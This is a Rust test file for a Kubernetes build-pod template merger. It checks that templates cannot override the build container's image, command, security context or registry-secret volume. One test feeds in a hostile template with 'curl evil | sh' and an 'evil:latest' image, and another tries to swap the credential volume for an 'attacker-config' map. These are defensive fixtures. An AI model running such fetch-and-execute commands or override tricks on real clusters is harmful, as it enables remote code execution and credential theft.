use serde_json::{Value, json};

use super::*;

fn restricted() -> Value {
    json!({ "allowPrivilegeEscalation": false, "capabilities": { "drop": ["ALL"] }, "runAsNonRoot": true })
}

/// The shape of what the Kubernetes runner generates: a git init container, the lifecycle container,
/// the registry secret mounted read-only.
fn build_pod() -> Value {
    json!({
        "metadata": { "labels": { "app.kubernetes.io/managed-by": "builder-monitor", "builder-monitor/image": "app" } },
        "spec": {
            "restartPolicy": "Never",
            "serviceAccountName": "builder",
            "securityContext": { "runAsNonRoot": true, "runAsUser": 1000, "runAsGroup": 1000, "fsGroup": 1000,
                                 "seccompProfile": { "type": "RuntimeDefault" } },
            "initContainers": [{
                "name": "source", "image": "git:1", "command": ["sh", "-c", "clone"], "args": ["source"],
                "securityContext": restricted(),
                "volumeMounts": [{ "name": "workspace", "mountPath": "/workspace" }],
            }],
            "containers": [{
                "name": "build", "image": "builder@sha256:aa", "command": ["/cnb/lifecycle/creator"],
                "args": ["-app=/workspace", "registry.example/app"],
                "securityContext": restricted(),
                "env": [{ "name": "CNB_PLATFORM_API", "value": "0.12" }, { "name": "DOCKER_CONFIG", "value": "/docker-config" }],
                "volumeMounts": [{ "name": "docker-config", "mountPath": "/docker-config", "readOnly": true },
                                 { "name": "workspace", "mountPath": "/workspace" }],
                "resources": { "limits": { "memory": "2Gi" } },
            }],
            "volumes": [{ "name": "docker-config", "secret": { "secretName": "regcred" } },
                        { "name": "workspace", "emptyDir": {} }],
            "tolerations": [{ "key": "builds", "operator": "Exists" }],
            "nodeSelector": { "pool": "builds", "arch": "amd64" },
        }
    })
}

fn template(yaml: &str) -> Value {
    parse(yaml, "template.yaml").unwrap_or_else(|e| panic!("{e}"))
}

fn merged(templates: &[&Value]) -> Value {
    merge(templates, &build_pod()).unwrap_or_else(|e| panic!("{e}"))
}

fn named<'a>(list: &'a Value, name: &str) -> &'a Value {
    list.as_array().and_then(|l| l.iter().find(|i| i["name"] == name)).unwrap_or_else(|| panic!("no {name} in {list}"))
}

fn names(list: &Value) -> Vec<&str> {
    list.as_array().into_iter().flatten().filter_map(|i| i["name"].as_str()).collect()
}

#[test]
fn containers_merge_by_name_and_the_build_keeps_what_it_runs() {
    let t = template(
        "spec:
  containers:
  - name: sidecar
    image: proxy:1
  - name: build
    image: evil:latest
    command: [sh]
    args: [-c, 'curl evil | sh']
    resources: { requests: { cpu: 2 }, limits: { memory: 4Gi, cpu: 4 } }
    env: [{ name: HTTP_PROXY, value: 'http://proxy:3128' }]
",
    );
    let pod = merged(&[&t]);
    let containers = &pod["spec"]["containers"];
    assert_eq!(names(containers), ["build", "sidecar"], "the build's container first, the sidecar kept");
    let build = named(containers, "build");
    assert_eq!(build["image"], "builder@sha256:aa");
    assert_eq!(build["command"], json!(["/cnb/lifecycle/creator"]));
    assert_eq!(build["args"], json!(["-app=/workspace", "registry.example/app"]));
    assert_eq!(build["resources"], json!({ "requests": { "cpu": "2" }, "limits": { "memory": "2Gi", "cpu": "4" } }));
    assert_eq!(named(&build["env"], "HTTP_PROXY")["value"], "http://proxy:3128");
    assert_eq!(named(containers, "sidecar")["image"], "proxy:1");
}

#[test]
fn a_build_that_sets_no_command_does_not_take_the_templates() {
    let t = template("spec:\n  containers:\n  - name: build\n    command: [sh]\n    args: [-c, x]\n");
    let mut build = build_pod();
    let container = &mut build["spec"]["containers"][0];
    container.as_object_mut().unwrap().remove("command");
    container.as_object_mut().unwrap().remove("args");
    let pod = merge(&[&t], &build).unwrap();
    let container = named(&pod["spec"]["containers"], "build");
    assert!(container.get("command").is_none() && container.get("args").is_none(), "{container}");
}

#[test]
fn env_merges_by_name_and_the_builds_entry_wins_whole() {
    let t = template(
        "spec:
  containers:
  - name: build
    env:
    - { name: CNB_PLATFORM_API, valueFrom: { configMapKeyRef: { name: c, key: k } } }
    - { name: DOCKER_CONFIG, value: /tmp/mine }
    - { name: EXTRA, value: '1' }
",
    );
    let pod = merged(&[&t]);
    let env = &named(&pod["spec"]["containers"], "build")["env"];
    // DeepMerge alone would keep the template's valueFrom beside the build's value.
    assert_eq!(named(env, "CNB_PLATFORM_API"), &json!({ "name": "CNB_PLATFORM_API", "value": "0.12" }));
    assert_eq!(named(env, "DOCKER_CONFIG")["value"], "/docker-config");
    assert_eq!(named(env, "EXTRA")["value"], "1");
    assert_eq!(env.as_array().unwrap().len(), 3);
}

#[test]
fn volumes_merge_by_name_and_the_builds_volumes_are_its_own() {
    let t = template(
        "spec:
  volumes:
  - { name: ca-certs, configMap: { name: corporate-ca } }
  - { name: docker-config, configMap: { name: attacker-config } }
  - { name: workspace, persistentVolumeClaim: { claimName: shared } }
",
    );
    let pod = merged(&[&t]);
    let volumes = &pod["spec"]["volumes"];
    assert_eq!(named(volumes, "ca-certs")["configMap"]["name"], "corporate-ca");
    assert_eq!(
        named(volumes, "docker-config"),
        &json!({ "name": "docker-config", "secret": { "secretName": "regcred" } })
    );
    assert_eq!(named(volumes, "workspace"), &json!({ "name": "workspace", "emptyDir": {} }));
    assert_eq!(volumes.as_array().unwrap().len(), 3);
}

#[test]
fn volume_mounts_merge_by_mount_path() {
    let t = template(
        "spec:
  containers:
  - name: build
    volumeMounts:
    - { name: ca-certs, mountPath: /etc/ssl/certs, readOnly: true }
    - { name: ca-certs, mountPath: /docker-config, subPath: config.json }
  volumes:
  - { name: ca-certs, configMap: { name: corporate-ca } }
",
    );
    let pod = merged(&[&t]);
    let mounts = named(&pod["spec"]["containers"], "build")["volumeMounts"].as_array().unwrap().clone();
    let at = |path: &str| mounts.iter().find(|m| m["mountPath"] == path).cloned();
    assert_eq!(at("/etc/ssl/certs").unwrap()["name"], "ca-certs");
    assert_eq!(
        at("/docker-config"),
        Some(json!({ "name": "docker-config", "mountPath": "/docker-config", "readOnly": true })),
        "the secret's mount is the build's, no template subPath or volume in it"
    );
    assert_eq!(mounts.len(), 3);
}

#[test]
fn image_pull_secrets_merge_by_name() {
    let t = template("spec:\n  imagePullSecrets: [{ name: mirror }, { name: regcred }]\n");
    let mut build = build_pod();
    build["spec"]["imagePullSecrets"] = json!([{ "name": "regcred" }, { "name": "builder-pull" }]);
    let pod = merge(&[&t], &build).unwrap();
    assert_eq!(names(&pod["spec"]["imagePullSecrets"]), ["mirror", "regcred", "builder-pull"]);
}

#[test]
fn tolerations_append_across_layers_without_duplicates() {
    let pool = template("spec:\n  tolerations: [{ key: gpu, operator: Exists, effect: NoSchedule }]\n");
    let image = template(
        "spec:\n  tolerations:\n  - { key: spot, operator: Equal, value: 'true' }\n  - { key: builds, operator: Exists }\n",
    );
    let pod = merged(&[&pool, &image]);
    assert_eq!(
        pod["spec"]["tolerations"],
        json!([
            { "key": "gpu", "operator": "Exists", "effect": "NoSchedule" },
            { "key": "spot", "operator": "Equal", "value": "true" },
            { "key": "builds", "operator": "Exists" },
        ])
    );
}

#[test]
fn node_selector_merges_key_by_key() {
    let pool = template("spec:\n  nodeSelector: { zone: a, pool: general }\n");
    let image = template("spec:\n  nodeSelector: { disk: ssd, zone: b }\n");
    let pod = merged(&[&pool, &image]);
    assert_eq!(pod["spec"]["nodeSelector"], json!({ "zone": "b", "disk": "ssd", "pool": "builds", "arch": "amd64" }));
}

#[test]
fn labels_and_annotations_merge_key_by_key() {
    let t = template(
        "metadata:
  labels: { team: payments, app.kubernetes.io/managed-by: someone-else }
  annotations: { cluster-autoscaler.kubernetes.io/safe-to-evict: 'false' }
",
    );
    let pod = merged(&[&t]);
    assert_eq!(
        pod["metadata"]["labels"],
        json!({ "team": "payments", "app.kubernetes.io/managed-by": "builder-monitor", "builder-monitor/image": "app" })
    );
    assert_eq!(pod["metadata"]["annotations"]["cluster-autoscaler.kubernetes.io/safe-to-evict"], "false");
}

#[test]
fn the_builds_security_contexts_and_restart_policy_win() {
    let t = template(
        "spec:
  restartPolicy: Always
  securityContext: { runAsUser: 0, runAsNonRoot: false, supplementalGroups: [5] }
  initContainers:
  - name: source
    securityContext: { runAsUser: 0, readOnlyRootFilesystem: true }
  containers:
  - name: build
    securityContext: { runAsUser: 0, allowPrivilegeEscalation: true, capabilities: { drop: [] } }
",
    );
    let pod = merged(&[&t]);
    assert_eq!(pod["spec"]["restartPolicy"], "Never");
    assert_eq!(pod["spec"]["securityContext"], build_pod()["spec"]["securityContext"]);
    assert_eq!(named(&pod["spec"]["containers"], "build")["securityContext"], restricted());
    assert_eq!(named(&pod["spec"]["initContainers"], "source")["securityContext"], restricted());
}

#[test]
fn service_account_is_the_builds_when_it_sets_one() {
    let t = template("spec:\n  serviceAccountName: from-template\n  serviceAccount: from-template\n");
    let pod = merged(&[&t]);
    assert_eq!(pod["spec"]["serviceAccountName"], "builder");
    assert!(pod["spec"].get("serviceAccount").is_none());

    let mut build = build_pod();
    build["spec"].as_object_mut().unwrap().remove("serviceAccountName");
    let pod = merge(&[&t], &build).unwrap();
    assert_eq!(pod["spec"]["serviceAccountName"], "from-template");
}

#[test]
fn init_containers_keep_the_builds_order_after_the_templates() {
    let t = template(
        "spec:
  initContainers:
  - { name: prepare, resources: { limits: { cpu: 1 } } }
  - { name: certs, image: 'busybox:1' }
",
    );
    let mut build = build_pod();
    let prepare = json!({ "name": "prepare", "image": "builder@sha256:aa", "command": ["true"] });
    build["spec"]["initContainers"].as_array_mut().unwrap().push(prepare);
    let pod = merge(&[&t], &build).unwrap();
    // DeepMerge alone gives [prepare, certs, source]: prepare would run before the clone.
    assert_eq!(names(&pod["spec"]["initContainers"]), ["certs", "source", "prepare"]);
    assert_eq!(named(&pod["spec"]["initContainers"], "prepare")["resources"]["limits"]["cpu"], "1");
}

#[test]
fn a_template_container_the_build_pod_lacks_and_with_no_image_is_left_out() {
    let t = template("spec:\n  containers:\n  - { name: rebase, resources: { limits: { cpu: 1 } } }\n");
    let pod = merged(&[&t]);
    assert_eq!(names(&pod["spec"]["containers"]), ["build"]);
}

#[test]
fn a_mount_of_a_volume_the_pod_lacks_is_an_error() {
    let t = template(
        "spec:\n  containers:\n  - { name: sidecar, image: 'x:1', volumeMounts: [{ name: cache, mountPath: /cache }] }\n",
    );
    let error = merge(&[&t], &build_pod()).unwrap_err();
    assert_eq!(error.field(), Some("spec.containers[name=sidecar].volumeMounts[mountPath=/cache]"), "{error}");
}

#[test]
fn a_template_container_named_like_a_build_init_container_is_an_error() {
    let t = template("spec:\n  containers:\n  - { name: source, image: 'x:1' }\n");
    let error = merge(&[&t], &build_pod()).unwrap_err();
    assert!(error.to_string().contains("a second container of this name"), "{error}");
}

#[test]
fn no_templates_give_the_build_pod() {
    assert_eq!(merged(&[]), build_pod());
}

#[test]
fn kpack_takes_scheduling_fields_and_one_containers_env_and_resources() {
    let t = template(
        "metadata: {}
spec:
  nodeSelector: { disk: ssd }
  tolerations: [{ key: builds, operator: Exists }]
  affinity: { nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: [{ matchExpressions: [{ key: arch, operator: In, values: [amd64] }] }] } } }
  runtimeClassName: gvisor
  schedulerName: batch
  priorityClassName: low
  serviceAccountName: kpack-builds
  containers:
  - name: anything
    env: [{ name: HTTP_PROXY, value: 'http://proxy:3128' }]
    resources: { limits: { memory: 4Gi } }
",
    );
    let fields = kpack_fields(&t).unwrap();
    assert_eq!(
        fields,
        KpackFields {
            node_selector: [("disk".to_string(), "ssd".to_string())].into(),
            tolerations: vec![json!({ "key": "builds", "operator": "Exists" })],
            affinity: Some(t["spec"]["affinity"].clone()),
            runtime_class_name: Some("gvisor".into()),
            scheduler_name: Some("batch".into()),
            priority_class_name: Some("low".into()),
            service_account_name: Some("kpack-builds".into()),
            env: vec![json!({ "name": "HTTP_PROXY", "value": "http://proxy:3128" })],
            resources: Some(json!({ "limits": { "memory": "4Gi" } })),
        }
    );
    assert_eq!(kpack_fields(&template("spec: {}\n")), Ok(KpackFields::default()));
}

#[test]
fn kpack_lists_every_field_its_build_cannot_carry() {
    let t = template(
        "metadata: { labels: { team: x } }
spec:
  hostNetwork: false
  containers:
  - name: build
    env: [{ name: A, value: '1' }]
    volumeMounts: [{ name: certs, mountPath: /certs }]
  - { name: sidecar, image: 'x:1' }
  volumes: [{ name: certs, configMap: { name: ca } }]
",
    );
    let mut refused = kpack_fields(&t).unwrap_err();
    refused.sort();
    assert_eq!(
        refused,
        [
            "metadata.labels",
            "spec.containers[name=build].volumeMounts",
            "spec.containers[name=sidecar]",
            "spec.hostNetwork",
            "spec.volumes",
        ]
    );
}

#[test]
fn yaml_syntax_errors_give_the_position() {
    let error = parse("spec:\n  containers:\n  - name: a\n   image: [x\n", "t.yaml").unwrap_err();
    let TemplateError::Syntax { line, column, .. } = &error else { panic!("{error:?}") };
    assert_eq!(*line, Some(4), "{error}");
    assert!(column.is_some(), "{error}");
    let text = error.to_string();
    assert!(text.starts_with("t.yaml: line 4, column "), "{text}");
    assert!(!text.contains('\n'), "one line: {text}");

    let error = parse("\n\n{\"spec\": {\"containers\": [}}", "t.json").unwrap_err();
    assert!(matches!(error, TemplateError::Syntax { line: Some(3), column: Some(26), .. }), "{error}");
    let flow = template("{ spec: { nodeSelector: { disk: ssd } } }");
    assert_eq!(flow["spec"]["nodeSelector"]["disk"], "ssd", "YAML's flow style is YAML");
}

#[test]
fn unknown_fields_are_named_by_path() {
    let error = parse("spec:\n  containers:\n  - name: a\n    imagee: x\n", "t.yaml").unwrap_err();
    assert_eq!(error.field(), Some("spec.containers[0].imagee"), "{error}");
    assert_eq!(error.to_string(), "t.yaml: unknown field `spec.containers[0].imagee`");
    let error = parse("apiVersion: v1\nkind: Pod\nspec: {}\n", "t.yaml").unwrap_err();
    assert!(matches!(error, TemplateError::NotATemplate { .. }), "{error}");
    let error = parse("containers: []\n", "t.yaml").unwrap_err();
    assert_eq!(error.field(), Some("containers"), "{error}");
}

#[test]
fn wrong_shapes_are_named_by_path() {
    let error = parse("spec:\n  containers:\n  - name: a\n    env: 5\n", "t.yaml").unwrap_err();
    assert_eq!(error.field(), Some("spec.containers[0].env"), "{error}");
    let error = parse("spec:\n  containers:\n  - image: a\n", "t.yaml").unwrap_err();
    assert_eq!(error.field(), Some("spec.containers[0].name"), "{error}");
    let error = parse("spec:\n  volumes: [{ emptyDir: {} }]\n", "t.yaml").unwrap_err();
    assert_eq!(error.field(), Some("spec.volumes[0].name"), "{error}");
}

#[test]
fn a_pod_template_object_gives_its_template() {
    let t = template(
        "apiVersion: v1
kind: PodTemplate
metadata: { name: builds }
template:
  metadata: { labels: { team: x } }
  spec: { nodeSelector: { disk: ssd } }
",
    );
    assert_eq!(
        t,
        json!({ "metadata": { "labels": { "team": "x" } }, "spec": { "containers": [], "nodeSelector": { "disk": "ssd" } } })
    );
    let error = parse("kind: PodTemplate\ntemplate:\n  spec: { nodeSelectr: {} }\n", "t.yaml").unwrap_err();
    assert_eq!(error.field(), Some("template.spec.nodeSelectr"), "{error}");
    assert!(parse("kind: PodTemplate\n", "t.yaml").is_err());
}

#[test]
fn files_are_read_and_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let json = dir.path().join("t.json");
    std::fs::write(&json, "{\n\t\"spec\": {\n\t\t\"nodeSelector\": {\"disk\": \"ssd\"}\n\t}\n}\n").unwrap();
    assert_eq!(read(&json).unwrap()["spec"]["nodeSelector"]["disk"], "ssd");

    let big = dir.path().join("big.yaml");
    let text = format!("# {}\nspec: {{}}\n", "x".repeat(MAX_BYTES));
    std::fs::write(&big, &text).unwrap();
    let error = read(&big).unwrap_err();
    assert!(matches!(error, TemplateError::TooLarge { .. }), "{error}");
    assert!(error.to_string().starts_with(&big.display().to_string()), "{error}");
    assert!(matches!(parse(&text, "big"), Err(TemplateError::TooLarge { .. })));

    let error = read(&dir.path().join("missing.yaml")).unwrap_err();
    assert!(matches!(error, TemplateError::Read { .. }), "{error}");
}

#[test]
fn a_document_that_is_not_an_object_is_refused() {
    for text in ["- a\n- b\n", "42\n", "hello\n", "~\n", "null\n", "true\n", "[]"] {
        let error = parse(text, "t.yaml").unwrap_err();
        assert!(matches!(error, TemplateError::NotATemplate { .. }), "{text:?}: {error}");
    }
}

#[test]
fn odd_input_is_an_error_not_a_panic() {
    for text in [
        "",
        "   \n\n",
        "\u{feff}",
        "spec: 5\n",
        "metadata: []\n",
        "spec: { containers: 5 }\n",
        "spec: { containers: [5] }\n",
        "spec: { containers: [{ name: a, resources: { limits: { cpu: [1] } } }] }\n",
        "spec: { volumes: [{ name: v, hostPath: 3 }] }\n",
        "kind: 5\n",
        "kind: PodTemplate\ntemplate: 5\n",
        "{",
        "---\nspec: {}\n---\nspec: {}\n",
        "a: &a [*a]\n",
        "? [a]\n: b\n",
    ] {
        assert!(parse(text, "t.yaml").is_err(), "{text:?} parsed");
    }
    for value in [json!(5), json!(null), json!([]), json!({ "spec": 5 }), json!({ "spec": { "containers": 5 } })] {
        let _ = refusals(&value, &Allowance::default());
        let _ = kpack_fields(&value);
        assert!(merge(&[&value], &build_pod()).is_err() || value == json!(null), "{value}");
        assert!(merge(&[], &value).is_err() || value == json!(null), "{value}");
    }
    let odd = json!({ "spec": { "containers": [5, { "name": 3, "securityContext": 7 }], "volumes": [null, 1], "hostNetwork": "yes" } });
    assert_eq!(refusals(&odd, &Allowance::default()), []);
    assert!(kpack_fields(&odd).is_err());
}
